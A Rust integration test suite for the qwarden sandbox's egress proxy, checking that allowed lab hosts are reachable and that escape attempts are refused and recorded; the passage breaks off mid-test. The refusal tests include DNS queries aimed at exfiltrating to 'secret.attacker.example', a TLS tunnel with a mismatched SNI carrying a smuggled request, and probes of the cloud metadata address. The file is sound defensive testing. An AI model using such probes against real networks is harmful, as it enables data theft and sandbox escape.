//! Egress through qwarden's proxy, end to end: real clients (curl, Python's urllib and sockets,
//! pip, git) in real sessions reach a lab of test servers on the host only through the proxy, and
//! every way around it is refused. Like `run`, every test runs as the invoker and as uid 65534,
//! and every check is made twice: on what the client saw, and on the ledger's record of it.
//!
//! The lab (`fixtures/egress/labserver.py`, Python's standard library only) serves on 127.0.0.1:
//! `pkgs.lab.test`, a PEP 503 index holding one wheel, over plain HTTP; `git.lab.test`, a bare
//! repository over git's dumb HTTP protocol and an echo endpoint, over HTTPS with a self-signed
//! certificate made here by `openssl`; and `web.lab.test`, plain HTTP answering with the request
//! it got. Each server logs the request heads it receives, so a test can tell what reached it. The
//! profile maps the names to the servers in `[egress.hosts]` and allows `127.0.0.1/32`; the
//! certificate reaches the clients as `ca.pem` in the project.
//!
//! Needs, besides what `run` needs: `curl`, `openssl`, and pip for the system Python (Debian's
//! `python3-pip`).

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::run::{AGENT, As, ledger, run, sessiontest, setup, summary, violations};
use crate::support::{Cmd, Env, Running};

/// The lab's servers, running until dropped.
struct Lab {
    /// The server process (killed when dropped, before `dir` goes).
    _server: Running,
    /// Certificate, repositories, package index and the servers' logs.
    dir: tempfile::TempDir,
    pkgs: u16,
    git: u16,
    web: u16,
    /// The commit the served repository holds.
    head: String,
}

/// Runs a tool on the host (not in a session) and returns its standard output.
#[track_caller]
fn host_tool(program: &str, args: &[&str], dir: &Path) -> String {
    let out = Command::new(program)
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "Lab")
        .env("GIT_AUTHOR_EMAIL", "lab@lab.test")
        .env("GIT_AUTHOR_DATE", "2025-01-01T00:00:00Z")
        .env("GIT_COMMITTER_NAME", "Lab")
        .env("GIT_COMMITTER_EMAIL", "lab@lab.test")
        .env("GIT_COMMITTER_DATE", "2025-01-01T00:00:00Z")
        .output()
        .unwrap_or_else(|e| panic!("cannot run {program} (is it installed?): {e}"));
    assert!(
        out.status.success(),
        "{program} {args:?} failed:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

impl Lab {
    /// Makes the certificate and the repository, starts the servers and waits for their ports;
    /// puts the certificate in `env`'s project as `ca.pem`.
    fn start(env: &Env) -> Lab {
        let dir = tempfile::Builder::new()
            .prefix("qwarden-lab-")
            .tempdir()
            .unwrap();
        let root = dir.path();
        host_tool(
            "openssl",
            &[
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-days",
                "2",
                "-subj",
                "/CN=git.lab.test",
                "-addext",
                "subjectAltName=DNS:git.lab.test",
                "-keyout",
                "key.pem",
                "-out",
                "cert.pem",
            ],
            root,
        );
        std::fs::copy(root.join("cert.pem"), env.project.join("ca.pem")).unwrap();

        let work = root.join("work");
        std::fs::create_dir(&work).unwrap();
        host_tool(
            "git",
            &["-c", "init.defaultBranch=main", "init", "-q"],
            &work,
        );
        std::fs::write(work.join("README.md"), "the lab's repository\n").unwrap();
        host_tool("git", &["add", "README.md"], &work);
        host_tool("git", &["commit", "-qm", "lab commit"], &work);
        let head = host_tool("git", &["rev-parse", "HEAD"], &work);
        std::fs::create_dir(root.join("git")).unwrap();
        host_tool(
            "git",
            &["clone", "-q", "--bare", "work", "git/repo.git"],
            root,
        );
        host_tool("git", &["update-server-info"], &root.join("git/repo.git"));

        let script =
            Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/egress/labserver.py");
        let mut cmd = Command::new("python3");
        cmd.arg(script).arg(root).current_dir(root);
        let server = Cmd::from_command("labserver.py", cmd).spawn(&root.join("labserver.stderr"));
        let line = server.line();
        let port = |name: &str| -> u16 {
            line.split_whitespace()
                .find_map(|w| w.strip_prefix(&format!("{name}=")))
                .and_then(|p| p.parse().ok())
                .unwrap_or_else(|| panic!("no {name} port in {line:?}"))
        };
        Lab {
            pkgs: port("pkgs"),
            git: port("git"),
            web: port("web"),
            _server: server,
            dir,
            head,
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    /// The request heads `server` (`pkgs`, `git`, `web`) has logged.
    fn requests(&self, server: &str) -> Vec<Value> {
        std::fs::read_to_string(self.path(&format!("{server}.log")))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|e| e.get("requestline").is_some())
            .collect()
    }

    /// The request `server` got for `path` (with its query).
    #[track_caller]
    fn request(&self, server: &str, path: &str) -> Value {
        let all = self.requests(server);
        all.iter()
            .find(|r| r["path"] == path)
            .cloned()
            .unwrap_or_else(|| panic!("{server} got no request for {path}; it got {all:#?}"))
    }

    /// The three names as the manifest asks for them.
    fn grant(&self) -> Vec<String> {
        vec![
            format!("pkgs.lab.test:{}", self.pkgs),
            format!("git.lab.test:{}", self.git),
            format!("web.lab.test:{}", self.web),
        ]
    }

    /// The profile for the lab: its names allowed and mapped to the servers, loopback allowed.
    fn profile(&self, env: &Env) {
        egress_profile(
            env,
            &["pkgs.lab.test", "git.lab.test", "web.lab.test"],
            &["127.0.0.1/32"],
            &[
                ("pkgs.lab.test", format!("127.0.0.1:{}", self.pkgs)),
                ("git.lab.test", format!("127.0.0.1:{}", self.git)),
                ("web.lab.test", format!("127.0.0.1:{}", self.web)),
            ],
        );
    }
}

/// The run tests' agent, asking for `hosts` in `[network] allow`.
fn agent_with_network<S: AsRef<str>>(hosts: &[S]) -> String {
    let list: Vec<String> = hosts
        .iter()
        .map(|h| format!("\"{}\"", h.as_ref()))
        .collect();
    format!("{AGENT}\n[network]\nallow = [{}]\n", list.join(", "))
}

/// Edits the profile `qwarden init` wrote: `allow` gains `allow` (ahead of the tier's hosts),
/// `allow_ranges` becomes `ranges`, and `[egress.hosts]` maps each name to its address.
fn egress_profile(env: &Env, allow: &[&str], ranges: &[&str], hosts: &[(&str, String)]) {
    let path = env.config.join("profile.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let quoted = |v: &[&str]| {
        v.iter()
            .map(|s| format!("\"{s}\""))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let mut out = String::new();
    let mut in_egress = false;
    for line in text.split_inclusive('\n') {
        if line.starts_with('[') {
            in_egress = line.trim_end() == "[egress]";
        }
        if let Some(rest) = line.strip_prefix("allow = [").filter(|_| in_egress) {
            out.push_str(&format!("allow = [{}, {rest}", quoted(allow)));
        } else if in_egress && line.starts_with("allow_ranges =") {
            out.push_str(&format!("allow_ranges = [{}]\n", quoted(ranges)));
        } else {
            out.push_str(line);
        }
    }
    out.push_str("\n[egress.hosts]\n");
    for (name, address) in hosts {
        out.push_str(&format!("\"{name}\" = \"{address}\"\n"));
    }
    assert!(
        out.contains(&format!("allow = [{}, ", quoted(allow)))
            && out.contains(&format!("allow_ranges = [{}]", quoted(ranges))),
        "the profile template changed: {text}"
    );
    std::fs::write(&path, out).unwrap();
}

/// The lab's profile and a manifest asking for its three names.
fn lab_setup(env: &Env, lab: &Lab) {
    setup(env, "sandbox", &agent_with_network(&lab.grant()));
    lab.profile(env);
}

/// `qwarden run … -- sh -c SCRIPT` as `who`; the run must succeed. Returns stdout and the ledger.
fn session(env: &Env, who: As, script: &str) -> (String, Vec<Value>) {
    let out = run(env, who, &["--", "sh", "-c", script]).run();
    out.success();
    let s = summary(&out.stderr);
    assert_eq!(s["exit_code"], 0, "{s}");
    (out.stdout.clone(), ledger(env))
}

fn decisions(entries: &[Value]) -> Vec<&Value> {
    entries
        .iter()
        .filter(|e| e["kind"] == "net.decision")
        .collect()
}

/// The first `net.decision` for which `pred` holds.
#[track_caller]
fn decision<'a>(entries: &'a [Value], what: &str, pred: impl Fn(&Value) -> bool) -> &'a Value {
    entries
        .iter()
        .filter(|e| e["kind"] == "net.decision")
        .find(|e| pred(e))
        .unwrap_or_else(|| {
            panic!(
                "no net.decision {what}; the decisions: {:#?}",
                decisions(entries)
            )
        })
}

/// The first `netns` violation attempting `attempted` with a target for which `target` holds.
#[track_caller]
fn netns_violation<'a>(
    entries: &'a [Value],
    attempted: &str,
    target: impl Fn(&str) -> bool,
) -> &'a Value {
    entries
        .iter()
        .filter(|e| e["kind"] == "violation" && e["control"] == "netns")
        .find(|v| v["attempted"] == attempted && target(v["target"].as_str().unwrap_or("")))
        .unwrap_or_else(|| {
            panic!(
                "no netns violation {attempted:?}; the violations: {:#?}",
                violations(entries)
            )
        })
}

/// Whether `ip` is in 198.18.0.0/15, where the DNS stub's stand-in addresses come from.
fn is_stand_in(ip: &str) -> bool {
    ip.parse::<Ipv4Addr>()
        .is_ok_and(|a| a.octets()[0] == 198 && (a.octets()[1] & 0xfe) == 18)
}

fn bytes(e: &Value, field: &str) -> u64 {
    e[field]
        .as_u64()
        .unwrap_or_else(|| panic!("no {field}: {e}"))
}

// ---------------------------------------------------------------------------------------------
// What gets through.

sessiontest!(
    curl_reaches_an_allowed_host_through_connect_and_socks,
    |env, who| {
        let lab = Lab::start(env);
        lab_setup(env, &lab);
        let script = format!(
            "curl -sS --cacert ca.pem https://git.lab.test:{g}/echo?via=connect; echo \"connect:$?\"; \
             curl -sS --proxy socks5h://127.0.0.1:3128 --cacert ca.pem https://git.lab.test:{g}/echo?via=socks; echo \"socks:$?\"",
            g = lab.git
        );
        let (stdout, entries) = session(env, who, &script);
        assert!(stdout.contains("connect:0"), "{stdout}");
        assert!(stdout.contains("socks:0"), "{stdout}");
        assert!(
            stdout.contains("\"path\": \"/echo?via=connect\""),
            "{stdout}"
        );
        assert!(stdout.contains("\"path\": \"/echo?via=socks\""), "{stdout}");
        for (via, path) in [
            ("http-connect", "/echo?via=connect"),
            ("socks5", "/echo?via=socks"),
        ] {
            let d = decision(&entries, &format!("allowing git.lab.test via {via}"), |d| {
                d["details"]["via"] == via && d["host"] == "git.lab.test"
            });
            assert_eq!(d["verdict"], "allow", "{d}");
            assert_eq!(d["port"], lab.git, "{d}");
            assert_eq!(d["protocol"], "tcp", "{d}");
            assert_eq!(d["rule"], format!("allow git.lab.test:{}", lab.git), "{d}");
            assert_eq!(d["address"], "127.0.0.1", "{d}");
            assert_eq!(d["details"]["sni"], "git.lab.test", "{d}");
            assert!(
                bytes(d, "bytes_up") > 0 && bytes(d, "bytes_down") > 0,
                "{d}"
            );
            assert!(d["details"].get("error").is_none(), "{d}");
            // Through the tunnel the server got the request as the client sent it.
            let seen = lab.request("git", path);
            assert_eq!(seen["requestline"], format!("GET {path} HTTP/1.1"));
        }
    }
);

sessiontest!(
    absolute_form_requests_reach_the_server_in_origin_form,
    |env, who| {
        let lab = Lab::start(env);
        lab_setup(env, &lab);
        let script = format!(
            r#"python3 - <<'PY'
import urllib.request
r = urllib.request.urlopen("http://web.lab.test:{w}/forward/urllib?q=1")
print("urllib-http:", r.status)
PY
SSL_CERT_FILE=ca.pem python3 -c 'import urllib.request; print("urllib-https:", urllib.request.urlopen("https://git.lab.test:{g}/echo?via=urllib").status)'
curl -sS -o /dev/null -w 'curl:%{{http_code}}\n' -x http://agent:secret@127.0.0.1:3128 -H 'Connection: X-Hop' -H 'X-Hop: 1' 'http://web.lab.test:{w}/forward/curl?z=2'
"#,
            w = lab.web,
            g = lab.git
        );
        let (stdout, entries) = session(env, who, &script);
        for said in ["urllib-http: 200", "urllib-https: 200", "curl:200"] {
            assert!(stdout.contains(said), "{said:?} missing:\n{stdout}");
        }
        // The server got origin form, its own Host, and nothing meant for the proxy.
        for (path, request) in [
            ("/forward/urllib?q=1", "GET /forward/urllib"),
            ("/forward/curl?z=2", "GET /forward/curl"),
        ] {
            let seen = lab.request("web", path);
            assert_eq!(seen["requestline"], format!("GET {path} HTTP/1.1"));
            let headers = seen["headers"].as_array().unwrap();
            let names: Vec<String> = headers
                .iter()
                .map(|h| h[0].as_str().unwrap().to_ascii_lowercase())
                .collect();
            assert!(
                !names
                    .iter()
                    .any(|n| n.starts_with("proxy-") || n == "x-hop" || n == "connection"),
                "hop-by-hop or proxy headers reached the server: {seen:#}"
            );
            let host = headers
                .iter()
                .find(|h| h[0].as_str().unwrap().eq_ignore_ascii_case("host"))
                .unwrap();
            assert_eq!(host[1], format!("web.lab.test:{}", lab.web), "{seen:#}");
            let d = decision(&entries, &format!("forwarding {request}"), |d| {
                d["details"]["request"] == request
            });
            assert_eq!(d["verdict"], "allow", "{d}");
            assert_eq!(d["details"]["via"], "http-forward", "{d}");
            assert_eq!(d["protocol"], "http", "{d}");
            assert_eq!(d["host"], "web.lab.test", "{d}");
            assert_eq!(d["port"], lab.web, "{d}");
            assert_eq!(d["address"], "127.0.0.1", "{d}");
            assert_eq!(d["rule"], format!("allow web.lab.test:{}", lab.web), "{d}");
            assert!(bytes(d, "bytes_down") > 0, "{d}");
        }
        lab.request("git", "/echo?via=urllib");
        let d = decision(&entries, "tunnelling urllib's https", |d| {
            d["details"]["via"] == "http-connect" && d["host"] == "git.lab.test"
        });
        assert_eq!(d["verdict"], "allow", "{d}");
        assert_eq!(d["details"]["sni"], "git.lab.test", "{d}");
    }
);

sessiontest!(
    pip_downloads_and_installs_from_an_allowed_index,
    |env, who| {
        let lab = Lab::start(env);
        lab_setup(env, &lab);
        let pip = |subcommand: &str| {
            format!(
                "python3 -m pip {subcommand} --no-cache-dir --disable-pip-version-check --no-input \
             --index-url http://pkgs.lab.test:{}/simple/ --trusted-host pkgs.lab.test --no-deps",
                lab.pkgs
            )
        };
        let script = format!(
            "{} -d src/wheels demo-pkg; echo \"download:$?\"; \
         {} --target src/site demo-pkg; echo \"install:$?\"; \
         PYTHONPATH=src/site python3 -c 'import demo_pkg; print(demo_pkg.GREETING)'",
            pip("download"),
            pip("install"),
        );
        let (stdout, entries) = session(env, who, &script);
        assert!(stdout.contains("download:0"), "{stdout}");
        assert!(stdout.contains("install:0"), "{stdout}");
        assert!(stdout.contains("hello from demo-pkg"), "{stdout}");
        let wheel = "demo_pkg-1.0-py3-none-any.whl";
        let served = std::fs::read(lab.path(&format!("pkgs/packages/{wheel}"))).unwrap();
        let landed = std::fs::read(env.project.join(format!("src/wheels/{wheel}")))
            .unwrap_or_else(|e| panic!("the wheel did not land: {e}\n{stdout}"));
        assert_eq!(
            landed, served,
            "the downloaded wheel differs from the served one"
        );
        assert!(env.project.join("src/site/demo_pkg/__init__.py").is_file());
        for request in [
            "GET /simple/demo-pkg/".to_owned(),
            format!("GET /packages/{wheel}"),
        ] {
            let d = decision(&entries, &format!("forwarding {request}"), |d| {
                d["details"]["request"] == request.as_str()
            });
            assert_eq!(d["verdict"], "allow", "{d}");
            assert_eq!(d["details"]["via"], "http-forward", "{d}");
            assert_eq!(d["host"], "pkgs.lab.test", "{d}");
            assert_eq!(d["port"], lab.pkgs, "{d}");
            assert_eq!(d["address"], "127.0.0.1", "{d}");
            assert_eq!(
                d["rule"],
                format!("allow pkgs.lab.test:{}", lab.pkgs),
                "{d}"
            );
            assert!(d["details"].get("error").is_none(), "{d}");
        }
        let d = decision(&entries, "forwarding the wheel", |d| {
            d["details"]["request"] == format!("GET /packages/{wheel}").as_str()
        });
        assert!(
            bytes(d, "bytes_down") > served.len() as u64,
            "the wheel is {} bytes: {d}",
            served.len()
        );
        // Both pip runs fetched the wheel from the lab.
        let fetched = lab
            .requests("pkgs")
            .iter()
            .filter(|r| r["path"] == format!("/packages/{wheel}").as_str())
            .count();
        assert_eq!(fetched, 2, "{:#?}", lab.requests("pkgs"));
    }
);

sessiontest!(git_clones_over_https_through_the_proxy, |env, who| {
    let lab = Lab::start(env);
    lab_setup(env, &lab);
    let script = format!(
        "git -c http.sslCAInfo=\"$PWD/ca.pem\" clone -q https://git.lab.test:{}/repo.git src/clone; echo \"clone:$?\"; \
         git -C src/clone log --format='commit %H %s'",
        lab.git
    );
    let (stdout, entries) = session(env, who, &script);
    assert!(stdout.contains("clone:0"), "{stdout}");
    assert!(
        stdout.contains(&format!("commit {} lab commit", lab.head)),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(env.project.join("src/clone/README.md")).unwrap(),
        "the lab's repository\n"
    );
    // git asked for the smart protocol, got the dumb one, and fetched objects one by one.
    lab.request("git", "/repo.git/info/refs?service=git-upload-pack");
    assert!(
        lab.requests("git").iter().any(|r| r["path"]
            .as_str()
            .unwrap()
            .starts_with("/repo.git/objects/")),
        "{:#?}",
        lab.requests("git")
    );
    let tunnels: Vec<&Value> = decisions(&entries)
        .into_iter()
        .filter(|d| d["details"]["via"] == "http-connect")
        .collect();
    assert!(!tunnels.is_empty(), "{:#?}", decisions(&entries));
    for d in tunnels {
        assert_eq!(d["verdict"], "allow", "{d}");
        assert_eq!(d["host"], "git.lab.test", "{d}");
        assert_eq!(d["port"], lab.git, "{d}");
        assert_eq!(d["address"], "127.0.0.1", "{d}");
        assert_eq!(d["details"]["sni"], "git.lab.test", "{d}");
        assert!(bytes(d, "bytes_down") > 0, "{d}");
    }
});

sessiontest!(
    a_client_that_resolves_first_gets_a_stand_in_address,
    |env, who| {
        let lab = Lab::start(env);
        lab_setup(env, &lab);
        let script = format!(
            "python3 -c 'import socket; print(\"resolved\", socket.gethostbyname(\"web.lab.test\"))'; \
             curl -sS -o /dev/null -w 'socks:%{{http_code}}\\n' --socks5 127.0.0.1:3128 http://web.lab.test:{}/resolved-first",
            lab.web
        );
        let (stdout, entries) = session(env, who, &script);
        let stand_in = stdout
            .lines()
            .find_map(|l| l.strip_prefix("resolved "))
            .unwrap_or_else(|| panic!("{stdout}"))
            .to_owned();
        assert!(
            is_stand_in(&stand_in),
            "{stand_in} is not a stand-in address"
        );
        assert!(stdout.contains("socks:200"), "{stdout}");
        assert_eq!(
            lab.request("web", "/resolved-first")["requestline"],
            "GET /resolved-first HTTP/1.1"
        );
        let d = decision(&entries, "answering web.lab.test", |d| {
            d["protocol"] == "dns" && d["host"] == "web.lab.test"
        });
        assert_eq!(d["verdict"], "allow", "{d}");
        assert_eq!(d["port"], 53, "{d}");
        assert_eq!(d["details"]["via"], "dns-udp", "{d}");
        // The proxy took the stand-in back to the name, and decided and recorded the name.
        let d = decision(&entries, "for the stand-in address", |d| {
            d["details"]["via"] == "socks5"
        });
        assert_eq!(d["verdict"], "allow", "{d}");
        assert_eq!(d["host"], "web.lab.test", "{d}");
        assert_eq!(d["details"]["asked_as"], stand_in.as_str(), "{d}");
        assert_eq!(d["port"], lab.web, "{d}");
        assert_eq!(d["address"], "127.0.0.1", "{d}");
        assert_eq!(d["rule"], format!("allow web.lab.test:{}", lab.web), "{d}");
    }
);

sessiontest!(audit_tail_shows_the_decisions, |env, who| {
    let lab = Lab::start(env);
    lab_setup(env, &lab);
    let script = format!(
        "curl -sS -o /dev/null --cacert ca.pem https://git.lab.test:{}/echo; curl -sS -o /dev/null https://example.com/; true",
        lab.git
    );
    let out = run(env, who, &["--", "sh", "-c", &script]).run();
    out.success();
    let s = summary(&out.stderr);
    assert_eq!(s["counts"]["net_allowed"], 1, "{s}");
    assert_eq!(s["counts"]["net_denied"], 1, "{s}");
    let tail = env.qwarden(["audit", "tail", "-n", "1000"]).run();
    tail.success();
    let line = |needles: &[&str]| {
        tail.stdout
            .lines()
            .find(|l| needles.iter().all(|n| l.contains(n)))
            .unwrap_or_else(|| panic!("no line with {needles:?}:\n{}", tail.stdout))
            .to_owned()
    };
    line(&[
        "net.decision",
        "\"host\":\"git.lab.test\"",
        "\"verdict\":\"allow\"",
        "\"sni\":\"git.lab.test\"",
    ]);
    line(&[
        "net.decision",
        "\"host\":\"example.com\"",
        "\"verdict\":\"deny\"",
        "\"rule\":\"default deny\"",
    ]);
});

// ---------------------------------------------------------------------------------------------
// What does not.

sessiontest!(a_host_outside_the_grant_is_refused_with_403, |env, who| {
    let lab = Lab::start(env);
    lab_setup(env, &lab);
    let script = "curl -sS -v https://example.com/ 2>&1; echo \"connect:$?\"; \
                  curl -sS -D - http://example.com/plain 2>&1; echo \"forward:$?\"";
    let (stdout, entries) = session(env, who, script);
    let lower = stdout.to_ascii_lowercase();
    assert!(stdout.contains("connect:56"), "{stdout}");
    assert!(
        stdout.contains("CONNECT tunnel failed, response 403"),
        "{stdout}"
    );
    assert!(
        lower.contains("< x-qwarden-denied: default deny"),
        "{stdout}"
    );
    assert!(stdout.contains("forward:0"), "{stdout}");
    assert!(stdout.contains("HTTP/1.1 403 Forbidden"), "{stdout}");
    assert!(
        lower.contains("\nx-qwarden-denied: default deny"),
        "{stdout}"
    );
    assert!(
        stdout.contains("qwarden: refused by egress policy: default deny"),
        "{stdout}"
    );
    for (via, port, protocol) in [("http-connect", 443, "tcp"), ("http-forward", 80, "http")] {
        let d = decision(&entries, &format!("refusing example.com via {via}"), |d| {
            d["host"] == "example.com" && d["details"]["via"] == via
        });
        assert_eq!(d["verdict"], "deny", "{d}");
        assert_eq!(d["rule"], "default deny", "{d}");
        assert_eq!(d["port"], port, "{d}");
        assert_eq!(d["protocol"], protocol, "{d}");
        assert!(d.get("address").is_none_or(Value::is_null), "{d}");
        assert_eq!(bytes(d, "bytes_up") + bytes(d, "bytes_down"), 0, "{d}");
    }
    let d = decision(&entries, "with the refused request", |d| {
        d["details"]["via"] == "http-forward"
    });
    assert_eq!(d["details"]["request"], "GET /plain", "{d}");
});

sessiontest!(
    a_direct_connection_to_a_stand_in_address_is_refused,
    |env, who| {
        let lab = Lab::start(env);
        lab_setup(env, &lab);
        let script = format!(
            "curl -sS --noproxy '*' http://web.lab.test:{}/direct 2>&1; echo \"direct:$?\"",
            lab.web
        );
        let (stdout, entries) = session(env, who, &script);
        // curl: (7) Failed to connect.
        assert!(stdout.contains("direct:7"), "{stdout}");
        assert!(lab.requests("web").is_empty(), "{:#?}", lab.requests("web"));
        // The stub answered the name…
        let d = decision(&entries, "answering web.lab.test", |d| {
            d["protocol"] == "dns" && d["host"] == "web.lab.test"
        });
        assert_eq!(d["verdict"], "allow", "{d}");
        // …but the kernel refused the direct connect to the stand-in.
        let port = format!(":{}", lab.web);
        let v = netns_violation(&entries, "connect (tcp) outside the egress proxy", |t| {
            t.strip_suffix(&port).is_some_and(is_stand_in)
        });
        assert_eq!(v["kind"], "violation", "{v}");
    }
);

sessiontest!(a_raw_socket_to_an_address_is_refused, |env, who| {
    setup(env, "sandbox", AGENT);
    let script = r#"python3 - <<'PY'
import socket
try:
    socket.create_connection(("93.184.215.14", 80), 30)
    print("raw: connected")
except OSError as e:
    print("raw: errno", e.errno)
PY"#;
    let (stdout, entries) = session(env, who, script);
    assert!(
        stdout.contains("raw: errno 101"),
        "ENETUNREACH expected: {stdout}"
    );
    netns_violation(&entries, "connect (tcp) outside the egress proxy", |t| {
        t == "93.184.215.14:80"
    });
});

sessiontest!(udp_outside_the_stub_is_refused, |env, who| {
    setup(env, "sandbox", AGENT);
    let script = r#"python3 - <<'PY'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("8.8.8.8", 53))
    print("udp: sent")
except OSError as e:
    print("udp: errno", e.errno)
PY"#;
    let (stdout, entries) = session(env, who, script);
    assert!(
        stdout.contains("udp: errno 101"),
        "ENETUNREACH expected: {stdout}"
    );
    netns_violation(&entries, "sendto (udp) outside the egress proxy", |t| {
        t == "8.8.8.8:53"
    });
});

sessiontest!(the_stub_refuses_names_outside_the_grant, |env, who| {
    let lab = Lab::start(env);
    lab_setup(env, &lab);
    // A lookup through the C library, then raw queries (id, REFUSED is rcode 5) over UDP and TCP.
    let script = r#"python3 - <<'PY'
import socket, struct
try:
    print("lookup:", socket.gethostbyname("secret.attacker.example"))
except socket.gaierror as e:
    print("lookup: failed")
def query(name, qid):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
def show(how, r):
    qid, flags, _, answers = struct.unpack(">HHHH", r[:8])
    print("%s: id %04x rcode %d answers %d" % (how, qid, flags & 15, answers))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(60)
u.sendto(query("secret.attacker.example", 0x5151), ("127.0.0.1", 53))
show("udp", u.recv(512))
t = socket.create_connection(("127.0.0.1", 53), 60)
q = query("data.secret.attacker.example", 0x5252)
t.sendall(struct.pack(">H", len(q)) + q)
n = b""
while len(n) < 2:
    n += t.recv(2 - len(n))
r = b""
while len(r) < struct.unpack(">H", n)[0]:
    r += t.recv(512)
show("tcp", r)
PY"#;
    let (stdout, entries) = session(env, who, script);
    assert!(stdout.contains("lookup: failed"), "{stdout}");
    assert!(
        stdout.contains("udp: id 5151 rcode 5 answers 0"),
        "{stdout}"
    );
    assert!(
        stdout.contains("tcp: id 5252 rcode 5 answers 0"),
        "{stdout}"
    );
    for (name, via) in [
        ("secret.attacker.example", "dns-udp"),
        ("data.secret.attacker.example", "dns-tcp"),
    ] {
        let d = decision(&entries, &format!("refusing {name} via {via}"), |d| {
            d["host"] == name && d["details"]["via"] == via
        });
        assert_eq!(d["verdict"], "deny", "{d}");
        assert_eq!(d["protocol"], "dns", "{d}");
        assert_eq!(d["port"], 53, "{d}");
        assert_eq!(d["rule"], "default deny", "{d}");
    }
});

sessiontest!(
    allowed_names_that_resolve_to_loopback_or_metadata_are_refused,
    |env, who| {
        // A server really listens where rebind.lab.test points; the profile does not allow loopback.
        let lab = Lab::start(env);
        let rebind = format!("127.0.0.1:{}", lab.web);
        setup(
            env,
            "sandbox",
            &agent_with_network(&[
                format!("rebind.lab.test:{}", lab.web),
                "meta.lab.test:80".to_owned(),
            ]),
        );
        egress_profile(
            env,
            &["rebind.lab.test", "meta.lab.test"],
            &["169.254.0.0/16"],
            &[
                ("rebind.lab.test", rebind),
                ("meta.lab.test", "169.254.169.254:80".to_owned()),
            ],
        );
        let script = format!(
            "curl -sS -D - http://rebind.lab.test:{w}/ 2>&1; echo \"rebind-forward:$?\"; \
             curl -sS -p -D - http://rebind.lab.test:{w}/ 2>&1; echo \"rebind-connect:$?\"; \
             curl -sS -p -D - http://meta.lab.test/latest/meta-data/ 2>&1; echo \"meta-connect:$?\"; \
             curl -sS -D - http://meta.lab.test/latest/meta-data/ 2>&1; echo \"meta-forward:$?\"; \
             python3 -c 'import socket; socket.gethostbyname(\"rebind.lab.test\")' 2>/dev/null; echo \"lookup:$?\"",
            w = lab.web
        );
        let (stdout, entries) = session(env, who, &script);
        let lower = stdout.to_ascii_lowercase();
        for said in [
            "rebind-forward:0",
            "rebind-connect:56",
            "meta-connect:56",
            "meta-forward:0",
            "lookup:1",
            "x-qwarden-denied: address 127.0.0.1 is loopback",
            "x-qwarden-denied: address 169.254.169.254 is cloud metadata",
        ] {
            assert!(lower.contains(said), "{said:?} missing:\n{stdout}");
        }
        assert!(lab.requests("web").is_empty(), "{:#?}", lab.requests("web"));
        for (host, port, via, address, rule) in [
            (
                "rebind.lab.test",
                lab.web,
                "http-forward",
                "127.0.0.1",
                "address 127.0.0.1 is loopback",
            ),
            (
                "rebind.lab.test",
                lab.web,
                "http-connect",
                "127.0.0.1",
                "address 127.0.0.1 is loopback",
            ),
            (
                "meta.lab.test",
                80,
                "http-connect",
                "169.254.169.254",
                "address 169.254.169.254 is cloud metadata",
            ),
            (
                "meta.lab.test",
                80,
                "http-forward",
                "169.254.169.254",
                "address 169.254.169.254 is cloud metadata",
            ),
            (
                "rebind.lab.test",
                53,
                "dns-udp",
                "127.0.0.1",
                "address 127.0.0.1 is loopback",
            ),
        ] {
            let d = decision(&entries, &format!("refusing {host} via {via}"), |d| {
                d["host"] == host && d["details"]["via"] == via
            });
            assert_eq!(d["verdict"], "deny", "{d}");
            assert_eq!(d["port"], port, "{d}");
            assert_eq!(d["address"], address, "{d}");
            assert_eq!(d["rule"], rule, "{d}");
        }
    }
);

sessiontest!(a_tunnel_whose_server_name_differs_is_closed, |env, who| {
    let lab = Lab::start(env);
    lab_setup(env, &lab);
    let script = format!(
        r#"python3 - <<'PY'
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), 60)
s.sendall(b"CONNECT git.lab.test:{g} HTTP/1.1\r\nHost: git.lab.test:{g}\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    chunk = s.recv(1024)
    if not chunk:
        break
    head += chunk
print("proxy:", head.split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="evil.example")
    print("handshake: done")
    t.sendall(b"GET /echo?smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    print(t.recv(4096))
except (ssl.SSLError, OSError) as e:
    print("handshake: failed", type(e).__name__)
PY"#,
        g = lab.git
    );
    let (stdout, entries) = session(env, who, &script);
    assert!(stdout.contains("proxy: HTTP/1.1 200 OK"), "{stdout}");
    assert!(stdout.contains("handshake: failed"), "{stdout}");
    assert!(lab.requests("git").is_empty(), "{:#?}", lab.requests("git"));
    let d = decision(&entries, "closing the tunnel", |d| {
        d["details"]["via"] == "http-connect" && d["host"] == "git.lab.test"
    });
    assert_eq!(d["verdict"], "deny", "{d}");
    assert_eq!(
        d["rule"], "tls server name evil.example differs from the target git.lab.test",
        "{d}"
    );
    assert_eq!(d["details"]["sni"], "evil.example", "{d}");
    assert_eq!(d["port"], lab.git, "{d}");
    // Not one byte of the client hello went on.
    assert_eq!(bytes(d, "bytes_up"), 0, "{d}");
    assert_eq!(bytes(d, "bytes_down"), 0, "{d}");
});

sessiontest!(the_built_in_deny_list_beats_a_broad_allow, |env, who| {
    setup(
        env,
        "sandbox",
